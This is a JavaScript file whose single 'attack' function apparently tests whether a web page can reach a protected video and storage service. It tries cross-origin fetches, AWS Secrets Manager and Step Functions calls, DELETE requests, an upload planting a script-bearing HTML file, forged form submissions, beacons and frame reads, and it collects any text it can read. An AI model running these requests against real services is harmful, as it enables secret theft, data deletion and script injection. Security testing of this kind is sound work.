/**
 * Runs in a page, so it is JavaScript. Requests the key, an object and a video in every way that a browser has.
 * @returns every text that the page could read
 */
async function attack(target) {
  const { url, bucket, secretKey, request, execution, simulator } = target;
  const read = [];
  const object = `${url}/${bucket}/${secretKey}`;

  const tryFetch = async (address, init) => {
    const signal = AbortSignal.timeout(5_000);
    await fetch(address, { ...init, signal }).then(
      async (response) => read.push(await response.text()),
      () => undefined,
    );
  };
  const aws = (operation, body) => {
    const call = { method: 'POST', body };
    const headers = { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': operation };
    return [
      { ...call, headers },
      { ...call, headers: { ...headers, 'content-type': 'application/json' } },
      { ...call, mode: 'no-cors' },
    ];
  };
  const json = { 'content-type': 'application/json' };
  const posts = [
    { method: 'POST', body: request, headers: json },
    { method: 'POST', body: request },
    { method: 'POST', body: request, mode: 'no-cors' },
    { method: 'POST', body: new URLSearchParams({ '{"template_id":"1","a': '":1}' }), mode: 'no-cors' },
    { method: 'POST', body: formWith('key', 'planted.html'), mode: 'no-cors' },
  ];
  for (const address of [
    `${url}/videos`,
    `${url}/${bucket}`,
    object,
    `${simulator}/v1/video_template_generation`,
  ]) {
    for (const post of posts) await tryFetch(address, post);
    await tryFetch(address, { method: 'GET' });
    await tryFetch(address, { method: 'GET', mode: 'no-cors' });
    await tryFetch(address, { method: 'PUT', body: '<script>1</script>' });
    await tryFetch(address, { method: 'DELETE' });
  }
  for (const call of [
    ...aws('secretsmanager.GetSecretValue', '{"SecretId":"minimax/api-key"}'),
    ...aws('AWSStepFunctions.StartExecution', execution),
    ...aws('AWSEvents.PutEvents', '{"Entries":[{"Source":"s","DetailType":"d","Detail":"{}"}]}'),
  ])
    await tryFetch(`${url}/`, call);

  for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
    for (const action of [
      `${url}/videos`,
      `${url}/${bucket}`,
      `${url}/`,
      `${simulator}/v1/video_template_generation`,
    ])
      await submit(action, enctype);
  navigator.sendBeacon(`${url}/videos`, request);
  navigator.sendBeacon(`${url}/videos`, new Blob([request], { type: 'text/plain' }));

  const cut = new AbortController();
  const half = fetch(`${url}/${bucket}`, {
    method: 'POST',
    body: formWith('file', 'x'.repeat(1e6)),
    mode: 'no-cors',
    signal: cut.signal,
  });
  cut.abort();
  await half.catch(() => undefined);

  for (const tag of ['img', 'script', 'iframe', 'video', 'embed']) await embed(tag, object);
  await new Promise((done) => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    socket.onmessage = ({ data }) => read.push(String(data));
    socket.onerror = socket.onclose = done;
  });
  return read;

  function formWith(name, value) {
    const form = new FormData();
    form.append('key', 'planted.html');
    form.append(name, value);
    form.append('file', new Blob(['<script>1</script>'], { type: 'text/html' }), 'planted.html');
    return form;
  }

  /** A form whose answer goes into a frame. */
  async function submit(action, enctype) {
    const frame = document.createElement('iframe');
    frame.name = `answer-${Math.random()}`;
    const form = document.createElement('form');
    Object.assign(form, { action, enctype, method: 'POST', target: frame.name });
    for (const [name, value] of [
      ['key', 'planted.html'],
      ['{"template_id":"1","text_inputs":[],"x', '":1}'],
      ['file', '<script>1</script>'],
    ]) {
      const field = document.createElement('textarea');
      Object.assign(field, { name, value });
      form.append(field);
    }
    document.body.append(frame, form);
    const loaded = new Promise((done) => frame.addEventListener('load', done));
    form.submit();
    await Promise.race([loaded, new Promise((done) => setTimeout(done, 1_000))]);
    readFrame(frame);
  }

  async function embed(tag, src) {
    const element = document.createElement(tag);
    element.src = src;
    const over = new Promise((done) => {
      element.onload = element.onerror = done;
    });
    document.body.append(element);
    await Promise.race([over, new Promise((done) => setTimeout(done, 1_000))]);
    if (element instanceof HTMLIFrameElement) readFrame(element);
  }

  /** A page reads the frames of its own origin. */
  function readFrame({ contentDocument }) {
    read.push(contentDocument?.body?.textContent ?? '');
  }
}
